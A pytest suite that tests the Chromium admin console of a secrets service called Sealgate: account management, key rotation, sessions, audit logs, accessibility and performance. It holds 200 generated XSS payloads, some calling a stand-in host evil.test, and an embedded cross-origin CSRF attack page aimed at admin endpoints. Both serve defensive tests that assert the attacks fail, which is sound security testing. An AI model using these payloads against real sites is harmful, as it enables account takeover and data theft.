"""The console in Chromium: what an administrator does there, what attackers try, and whom it is usable for."""

import itertools
import json
import os
import re
import threading
import time
from urllib.parse import urlsplit

import pytest

from consoles import NAME, PASSWORD, VIEWS, Console, chromium, code_of, expect, serve
from doors import PATIENCE, Command, Site, eventually

SOAK = bool(os.environ.get("SEALGATE_SOAK_CONSOLE"))
ALL = "admin secure-data encrypt decrypt rewrap introspect api-keys api-keys-admin limit limit-reset metrics"


@pytest.fixture(scope="module")
def browser():
    with chromium() as browser:
        yield browser


def with_accounts(binary, folder, **users):
    """A data directory with an administrator and these users, who share a password."""
    command = Command(binary, folder)
    for name, scopes in {NAME: ALL, **users}.items():
        command("user", "add", name, "--scopes", scopes, stdin=PASSWORD + "\n").succeeded()
    return command


@pytest.fixture(scope="module")
def site(binary, tmp_path_factory):
    """A server that most tests share."""
    folder = tmp_path_factory.mktemp("console")
    command = with_accounts(binary, folder, alice="encrypt decrypt", bob="encrypt decrypt")
    with serve(binary, folder) as server:
        server.command = command
        yield server


@pytest.fixture
def console(browser, site):
    with Console(browser, site) as console:
        console.log_in()
        yield console
        assert console.wrong == []


def log_in(server, name, password=PASSWORD):
    return server.post("/login", {"username": name, "password": password})


def test_the_first_administrator_is_created_with_the_code_in_the_log(binary, browser, tmp_path):
    with serve(binary, tmp_path) as server, Console(browser, server) as console:
        page = console.open().page
        expect(page.get_by_role("heading", level=1)).to_have_text("Welcome to Sealgate")
        page.get_by_label("Username").fill(NAME)
        page.get_by_label("Password").fill(PASSWORD)
        page.get_by_label("One-time code").fill("00000-00000-00000-00000-000000")
        page.get_by_role("button", name="Create the administrator").click()
        expect(page.get_by_role("alert")).to_contain_text("The code is wrong.")
        # Chromium itself reports the 403.
        assert [text for text in console.wrong if "403" not in text] == []
        console.wrong.clear()
        page.get_by_label("One-time code").fill(code_of(server).lower())
        page.get_by_label("Password").fill(PASSWORD)
        page.get_by_role("button", name="Create the administrator").click()
        expect(page.get_by_role("heading", level=1)).to_have_text("Overview")
        # The cookie continues the session, and neither token is where a script finds it later.
        page.reload()
        expect(page.get_by_role("heading", level=1)).to_have_text("Overview")
        assert page.evaluate("[document.cookie, {...localStorage}, {...sessionStorage}]") == ["", {}, {}]
        assert page.evaluate("indexedDB.databases().then((all) => all.length)") == 0
        (cookie,) = console.context.cookies(console.address + "refresh")
        assert console.context.cookies(console.address) == []
        assert cookie.items() >= {
            "name": "__Secure-sealgate-refresh",
            "path": "/console/refresh",
            "httpOnly": True,
            "secure": True,
            "sameSite": "Strict",
        }.items()
        assert not any("token" in request.url or "code=" in request.url for request in console.requests)
        page.get_by_role("button", name="Log out").click()
        expect(page.get_by_text("You are logged out.")).to_be_visible()
        assert console.context.cookies(console.address + "refresh") == []
        page.reload()
        expect(page.get_by_role("button", name="Log in")).to_be_visible()
        assert console.wrong == []


def test_a_user_is_added_logs_in_and_is_refused_once_disabled(console, site):
    page = console.show("users").page
    console.press("Add a user")
    dialog = page.locator("dialog[open]")
    dialog.get_by_label("Name", exact=True).fill("carol")
    dialog.get_by_label("Password").fill(PASSWORD)
    dialog.get_by_label("Others, separated by spaces").fill("orders:read")
    console.confirm("Add")
    expect(console.row("carol")).to_contain_text("active")
    token = log_in(site, "carol").ok()["token"]
    assert site.post("/encrypt", {"data": "x"}, token=token).status == 200
    # The command sees the same account.
    listed = [json.loads(line) for line in site.command("user", "list", "--json").succeeded().splitlines()]
    (carol,) = [user for user in listed if user["name"] == "carol"]
    assert "orders:read" in json.dumps(carol)

    console.user("carol")
    console.press("Disable")
    expect(page.locator("dialog[open]")).to_contain_text("All its tokens are revoked for good")
    console.confirm("Disable")
    expect(page.locator(".facts")).to_contain_text("disabled")
    eventually(lambda: site.post("/encrypt", {"data": "x"}, token=token).status == 401)
    assert log_in(site, "carol").status == 401

    # Somebody else enables it meanwhile: a change of what was shown is refused, and says so.
    site.command("user", "enable", "carol").succeeded()
    page.get_by_label("rewrap").check()
    console.press("Save")
    expect(page.get_by_role("alert")).to_contain_text("Somebody else has changed this account.")
    expect(page.locator(".facts")).to_contain_text("active")
    expect(page.get_by_label("rewrap")).not_to_be_checked()
    console.wrong[:] = [text for text in console.wrong if "412" not in text]
    console.user("carol")
    console.press("Remove")
    console.confirm("Remove")
    expect(page.get_by_role("heading", level=1)).to_have_text("Users")
    expect(page.get_by_role("link", name="carol")).to_have_count(0)


def test_a_key_is_rotated_under_load(console, site):
    token = log_in(site, "alice").ok()["token"]
    stop, counts, wrong = threading.Event(), [0, 0], []

    def load(number):
        while not stop.is_set():
            sealed = site.post("/encrypt", {"data": "x"}, token=token)
            opened = sealed.status == 200 and site.post("/decrypt", {"encrypted_data": sealed.json()["encrypted_data"]}, token=token)
            if not opened or opened.status != 200:
                wrong.append(sealed.body)
                return
            counts[number] += 1

    threads = [threading.Thread(target=load, args=(number,)) for number in (0, 1)]
    for thread in threads:
        thread.start()
    try:
        page = console.show("keys").page
        table = page.get_by_role("table", name="Data keys")
        before = table.get_by_role("row").count()
        old = table.get_by_role("row").filter(has_text="in use").locator("code").first.inner_text()
        console.press("Rotate the data key")
        console.confirm("Rotate")
        expect(table.get_by_role("row")).to_have_count(before + 1)
        expect(table.get_by_role("row").filter(has_text=old)).to_contain_text("accepted")
        done = list(counts)
        eventually(lambda: wrong or all(now > then + 5 for now, then in zip(counts, done)))
    finally:
        stop.set()
        for thread in threads:
            thread.join(PATIENCE)
    assert wrong == []
    # Not one byte of a key is in what the page was sent.
    assert "key_material" not in page.content()


def test_a_session_is_ended(console, site):
    tokens = log_in(site, "bob").ok()
    page = console.show("sessions").page
    row = console.row("bob")
    expect(row).to_be_visible()
    row.get_by_role("button").click()
    expect(page.locator("dialog[open]")).to_contain_text("bob is logged out there")
    page.keyboard.press("Escape")  # nothing happens yet
    expect(page.locator("dialog[open]")).to_have_count(0)
    assert site.post("/encrypt", {"data": "x"}, token=tokens["token"]).status == 200
    row.get_by_role("button").click()
    console.confirm("End it")
    expect(page.get_by_role("row").filter(has_text="bob")).to_have_count(0)
    eventually(lambda: site.post("/encrypt", {"data": "x"}, token=tokens["token"]).status == 401)
    assert site.post("/refresh", {"refresh_token": tokens["refresh_token"]}).status == 401


def test_an_api_key_is_shown_once_and_revoked(console, site):
    page = console.show("apikeys").page
    console.press("Add an API key")
    dialog = page.locator("dialog[open]")
    dialog.get_by_label("Owner").fill("alice")
    dialog.get_by_label("encrypt", exact=True).check()
    dialog.get_by_role("button", name="Add", exact=True).click()
    key = page.get_by_label("API key", exact=True).inner_text()
    assert site.post("/encrypt", {"data": "x"}, token=key).status == 200
    console.confirm("Done")
    assert key not in page.content()
    console.row("alice").get_by_role("button").click()
    expect(page.locator("dialog[open]")).to_contain_text("This cannot be undone.")
    console.confirm("Revoke")
    expect(console.row("alice")).to_contain_text("revoked")
    expect(console.row("alice").get_by_role("button")).to_have_count(0)
    eventually(lambda: site.post("/encrypt", {"data": "x"}, token=key).status == 401)


def test_the_audit_trail_is_followed_and_filtered(console, site):
    page = console.show("audit").page
    log_in(site, "gertrude", "wrong")
    # What a stranger typed as a name may be a password: the trail shows its beginning.
    row = page.get_by_role("row").filter(has_text="ge***").filter(has_text="login_failed")
    expect(row.first).to_be_visible()
    expect(row.first).to_contain_text("127.0.0.1")
    page.get_by_label("Event", exact=True).select_option("logout")
    expect(row).to_have_count(0)
    page.get_by_label("Event", exact=True).select_option("login")
    page.get_by_label("User", exact=True).fill("gertrude")
    expect(row.first).to_be_visible()
    expect(page.get_by_role("row").filter(has_text=NAME)).to_have_count(0)


def test_a_limit_is_seen_refusing_and_forgotten(binary, browser, tmp_path):
    with_accounts(binary, tmp_path, alice="encrypt")
    with serve(binary, tmp_path, MAX_REQUESTS=3, RATE_LIMIT_WINDOW=3600) as server, Console(browser, server) as console:
        console.log_in().show("limits")
        token = log_in(server, "alice").ok()["token"]
        statuses = [server.post("/encrypt", {"data": "x"}, token=token).status for _ in range(5)]
        assert statuses == [200] * 3 + [429] * 2
        row = console.row("alice", "default")
        expect(row).to_contain_text("refused")
        row.get_by_role("button").click()
        console.confirm("Forget them")
        eventually(lambda: server.post("/encrypt", {"data": "x"}, token=token).status == 200)
        assert console.wrong == []


def test_an_operation_of_the_api_is_tried(console):
    page = console.show("tryit").page
    page.get_by_label("Operation").select_option(label="POST /encrypt")
    page.get_by_label(re.compile("^Body")).fill('{"data": "x"}')
    page.get_by_role("button", name="Send").click()
    expect(page.locator(".output")).to_contain_text('"encrypted_data"')
    page.get_by_label("Operation").select_option(label="POST /login")
    page.get_by_label(re.compile("^Body")).fill(json.dumps({"username": NAME, "password": PASSWORD}))
    page.get_by_role("button", name="Send").click()
    expect(page.locator(".output")).to_contain_text(re.compile(r'"token": "\(hidden: [0-9,]+ characters\)"'))


# The other two with make soak-console.
LOOKS = [("light", 360), ("dark", 1280), *([("light", 1280), ("dark", 360)] if SOAK else [])]


@pytest.mark.parametrize("theme, width", LOOKS)
def test_every_view_is_usable_by_everybody(browser, site, theme, width):
    viewport = {"width": width, "height": 800}
    with Console(browser, site, viewport=viewport, color_scheme=theme) as console:
        expect(console.open().page.get_by_label("Username")).to_be_visible()
        found = {"login": console.axe()}
        assert console.overflow() <= 0
        console.log_in()
        for view in VIEWS:
            console.show(view)
            found[view] = console.axe()
            assert console.overflow() <= 0, view
        # A dialog, too.
        console.show("users")
        console.press("Add a user")
        found["dialog"] = console.axe()
        assert {view: wrong for view, wrong in found.items() if wrong} == {}
        # The check would find something.
        console.page.evaluate("document.querySelector('dialog').append(document.createElement('input'))")
        assert any(wrong.startswith("label") for wrong in console.axe())
        assert console.wrong == []


def test_everything_can_be_done_by_keyboard(browser, site):
    with Console(browser, site) as console:
        page = console.open().page
        expect(page.get_by_label("Username")).to_be_focused()
        press = page.keyboard.press
        page.keyboard.type(NAME)
        press("Tab")
        page.keyboard.type(PASSWORD)
        press("Enter")
        expect(page.get_by_role("heading", level=1)).to_have_text("Overview")

        def tab_to(name):
            """Presses Tab until the focus is on what has this name; everything before it shows the focus too."""
            for _ in range(60):
                press("Tab")
                at = page.evaluate(
                    "(({innerText, ariaLabel, labels}, style) => [(ariaLabel || labels?.[0]?.innerText || innerText || '').trim(), "
                    "style.outlineStyle])(document.activeElement, getComputedStyle(document.activeElement))"
                )
                assert at[1] != "none", at
                if at[0] == name:
                    return
            pytest.fail(f"Tab never reached {name}")

        tab_to("Users")
        press("Enter")
        expect(page.get_by_role("heading", level=1)).to_be_focused()
        tab_to("Add a user")
        press("Enter")
        expect(page.locator("dialog[open]").get_by_label("Name", exact=True)).to_be_focused()
        page.keyboard.type("dora")
        press("Tab")
        page.keyboard.type(PASSWORD)
        press("Enter")
        expect(page.locator("dialog[open]")).to_have_count(0)
        expect(page.get_by_role("link", name="dora")).to_be_visible()
        tab_to("dora")
        press("Enter")
        expect(page.get_by_role("heading", level=1)).to_have_text("dora")
        expect(page.locator("[aria-busy=true]")).to_have_count(0)
        tab_to("Remove")
        press("Enter")
        expect(page.locator("dialog[open]").get_by_role("button", name="Cancel")).to_be_focused()
        press("Tab")
        press("Enter")
        expect(page.get_by_role("heading", level=1)).to_have_text("Users")
        assert console.wrong == []


def payloads():
    """200 texts that would become scripts or markup if anything made markup of them."""
    run = ["window.hit=1", "alert(1)", "window['hi'+'t']=1", "fetch('//evil.test')", "import('data:text/javascript,hit=1')"]
    shapes = [
        "<script>{}</script>", "<img src=x onerror={}>", "<svg onload={}>", '"><script>{}</script>', "'><img src=x onerror={}>",
        "<svg><script>{}</script></svg>", "<iframe srcdoc='<script>parent.{}</script>'>", "<body onload={}>",
        "<input autofocus onfocus={}>", "<details open ontoggle={}>", "<a href=javascript:{}>x</a>", "javascript:{}",
        "<math><mtext><script>{}</script>", "</title><script>{}</script>", "</textarea><script>{}</script>", "<!--><script>{}</script>",
        "{{{{constructor.constructor('{}')()}}}}", "${{{}}}", "<style>@import 'javascript:{}'</style>",
        "<object data=javascript:{}>", "<embed src=javascript:{}>", "<meta http-equiv=refresh content='0;javascript:{}'>",
        "<base href=//evil.test/><script src={}></script>", "<link rel=stylesheet href=javascript:{}>",
        "<form action=javascript:{}><button autofocus>", "<video><source onerror={}>", "<audio src onerror={}>",
        "<marquee onstart={}>", "<template><script>{}</script></template>", "<sg-chart onclick={}>",
        "<img src=`x`onerror={}>", "<x contenteditable onblur={}>", "<svg/onload={}>", "%3Cscript%3E{}%3C/script%3E",
        "&lt;script&gt;{}&lt;/script&gt;", "\\u003cscript\\u003e{}\\u003c/script\\u003e", "<ſcript>{}</ſcript>",
        "<scr<script>ipt>{}</script>", "<select><noembed></select><script>{}</script>", "<noscript><p title='</noscript><img src=x onerror={}>'>",
    ]
    return [shape.format(what) for shape, what in itertools.product(shapes, run)]


def test_what_strangers_write_stays_text(binary, browser, tmp_path):
    texts = payloads()
    assert len(set(texts)) == 200
    command = with_accounts(binary, tmp_path)
    with serve(binary, tmp_path, SEALGATE_LOCKOUT_AFTER=0, SEALGATE_PASSWORD_MEMORY=1024, SEALGATE_PASSWORD_PASSES=1) as server:
        token = log_in(server, NAME).ok()["token"]
        names = []
        for number, text in enumerate(texts):
            name = f"{text} {number}"
            scope = re.sub(r'["\\\s]|[^\x21-\x7e]', "", text)
            agent = re.sub(r"[^\x20-\x7e]", "", text)
            account = {"name": name, "password": PASSWORD, "scopes": [scope], "claims": {agent.strip()[:64]: text, "list": [text]}}
            reply = server.post("/admin/v1/users", account, token=token, headers={"User-Agent": agent, "X-Request-Id": agent})
            assert reply.status == 201, reply.body
            names.append(name)
            # The same as the name of somebody without an account, and as what is asked for.
            server.request("POST", "/login", send={"username": name + "?", "password": "wrong"}, headers={"User-Agent": agent})
        for name in names[:20]:
            log_in(server, name).ok()
        with Console(browser, server) as console:
            page = console.log_in().page
            allowed = page.evaluate("document.querySelectorAll('script, iframe, object, embed, base, style, form, video').length")
            for view in ("users", "sessions", "apikeys", "audit", "limits", "settings"):
                console.show(view)
                if view == "users":
                    for shown in (200, len(names) + 1):
                        page.get_by_role("button", name="Load more").click()
                        expect(page.get_by_role("row")).to_have_count(shown + 1)
                    expect(page.get_by_role("link", name=names[0], exact=True)).to_be_visible()
                assert page.evaluate("[window.hit, document.querySelectorAll('script, iframe, object, embed, base, style, form, video').length]") == [None, allowed]
            for name in names[:: 1 if SOAK else 20]:
                console.user(name)
                assert page.evaluate("[window.hit, document.querySelectorAll('script, iframe, object, embed, base, style, video').length]") == [None, 1]
            assert console.wrong == []
            assert {urlsplit(request.url).netloc for request in console.requests} == {f"127.0.0.1:{server.port}"}


EVIL = """
<!doctype html><title>evil</title>
<script>
const TARGET = %s;
const ask = async (path, options) => {
  try {
    const response = await fetch(TARGET + path, options);
    return [response.type, response.status];
  } catch (error) {
    return error.name;
  }
};
const form = (path, method, kind) => new Promise((done) => {
  const frame = document.createElement("iframe");
  frame.name = "f" + Math.random();
  document.body.append(frame);
  const form = document.createElement("form");
  Object.assign(form, {action: TARGET + path, method, enctype: kind, target: frame.name});
  form.innerHTML = '<input name=\\'{"code":"x","username":"mallory","password":"\\' value=\\'correct horse battery"}\\'>';
  document.body.append(form);
  frame.onload = done;
  form.submit();
});
const framed = (path) => new Promise((done) => {
  const frame = document.createElement("iframe");
  frame.src = TARGET + path;
  frame.onload = () => { try { done(frame.contentDocument === null ? "blocked" : frame.contentDocument.body.innerHTML); } catch (e) { done(e.name); } };
  document.body.append(frame);
});
window.attack = async () => {
  const found = {};
  for (const method of ["GET", "POST", "PUT", "PATCH", "DELETE"]) {
    for (const path of ["/console/refresh", "/console/refresh/logout", "/admin/v1/users", "/admin/v1/users/root", "/admin/v1/keys/rotate"]) {
      for (const mode of ["cors", "no-cors"]) {
        const options = {method, mode, credentials: "include"};
        if (method !== "GET") options.body = "{}";
        if (mode === "cors" && method !== "GET") options.headers = {"Content-Type": "application/json"};
        found[`${method} ${path} ${mode}`] = await ask(path, options);
      }
    }
  }
  for (const path of ["/console/login", "/console/first", "/console/refresh", "/console/refresh/logout", "/admin/v1/users"]) {
    for (const kind of ["text/plain", "application/x-www-form-urlencoded", "multipart/form-data"]) await form(path, "post", kind);
  }
  return found;
};
window.frames_ = async () => [await framed("/console/"), await framed("/console/icon.svg")];
</script>
"""


def test_pages_of_other_origins_can_do_nothing(console, site, browser):
    """On another port of the same host, so that the browser takes it for the same site, and on another host."""
    from test_browser import Site as Other

    page = console.page
    session = console.context.cookies(console.address + "refresh")
    users = site.command("user", "list", "--json").succeeded()
    with Other() as other:
        for origin in (other.other_origin, other.origin):
            evil = console.context.new_page()
            evil.route(f"{origin}/", lambda route: route.fulfill(content_type="text/html", body=EVIL % json.dumps(f"http://127.0.0.1:{site.port}")))
            evil.goto(f"{origin}/")
            found = evil.evaluate("attack()")
            assert len(found) == 50
            # A page of another origin reads nothing. What a browser sends without asking first was refused.
            assert all(answer in ("TypeError", ["opaque", 0]) for answer in found.values()), found
            assert evil.evaluate("frames_()") == ["blocked", "blocked"]
            evil.close()
    assert site.command("user", "list", "--json").succeeded() == users
    assert console.context.cookies(console.address + "refresh") == session
    # The administrator's session goes on as if nothing had happened.
    page.reload()
    expect(page.get_by_role("heading", level=1)).to_have_text("Overview")


def test_the_page_is_small_quick_and_alone(browser, site):
    with Console(browser, site) as console:
        sizes = {}

        def note(response):
            sizes[urlsplit(response.url).path] = response.request.sizes()["responseBodySize"]

        console.page.on("response", note)
        console.open().page.get_by_label("Username").wait_for()
        first = console.page.evaluate("Math.round(performance.getEntriesByName('first-contentful-paint')[0].startTime)")
        files = {path: size for path, size in sizes.items() if path.startswith("/console/")}
        print(f"\nfirst view after {first} ms; {sum(files.values())} bytes in {len(files)} files")
        assert sum(files.values()) <= 30 * 1024
        assert first < 5000  # on any machine; 100 ms on an idle one
        console.page.reload()
        console.page.get_by_label("Username").wait_for()
        again = [request.response().status for request in console.requests[-len(files) :]]
        assert set(again) <= {200, 304} and again.count(304) >= len(files) - 2
        console.log_in()
        begun = len(console.requests)
        seconds = 60 if SOAK else 5
        for view in ("overview", "audit", "limits", "keys") if SOAK else ("audit",):
            console.show(view)
            begun, at = len(console.requests), time.monotonic()
            console.page.wait_for_timeout(seconds * 1000)
            sent = len(console.requests) - begun
            print(f"{view}: {sent} requests in {time.monotonic() - at:.1f} s")
            assert sent <= time.monotonic() - at + 1
            # Nobody looks: nothing is asked.
            if view == "audit":
                console.page.evaluate(
                    "Object.defineProperty(document, 'hidden', {get: () => true, configurable: true}), "
                    "document.dispatchEvent(new Event('visibilitychange'))"
                )
                console.page.wait_for_timeout(500)
                begun = len(console.requests)
                console.page.wait_for_timeout(3000)
                assert len(console.requests) == begun
                console.page.evaluate("delete document.hidden, document.dispatchEvent(new Event('visibilitychange'))")
                eventually_more = time.monotonic() + PATIENCE
                while len(console.requests) == begun:
                    assert time.monotonic() < eventually_more
                    console.page.wait_for_timeout(200)
        assert {urlsplit(request.url).netloc for request in console.requests} == {f"127.0.0.1:{site.port}"}
        assert console.wrong == []


@pytest.mark.skipif(not SOAK, reason="make soak-console runs it")
@pytest.mark.parametrize("view", ["overview", "audit"])
def test_a_page_that_is_open_all_day_needs_no_more_memory(binary, browser, tmp_path, view):
    """The page's clock runs fast; the server and its events are real."""
    with_accounts(binary, tmp_path, alice="encrypt")
    with serve(binary, tmp_path, SEALGATE_LOCKOUT_AFTER=0) as server, Console(browser, server) as console:
        console.page.clock.install()
        console.log_in().show(view)
        session = console.context.new_cdp_session(console.page)

        def heap():
            session.send("HeapProfiler.collectGarbage")
            return session.send("Runtime.getHeapUsage")["usedSize"]

        token = log_in(server, "alice").ok()["token"]
        hours, sizes = 24, []
        for hour in range(hours):
            for _ in range(360):
                console.page.clock.run_for(10_000)
                server.post("/encrypt", {"data": "x"}, token=token)
            sizes.append(heap())
            del console.requests[:]
        print(f"\n{view}: heap {sizes[0] >> 10} KiB after an hour, {sizes[-1] >> 10} KiB after {hours}")
        assert sizes[-1] - sizes[0] < 2 << 20
        assert console.wrong == []
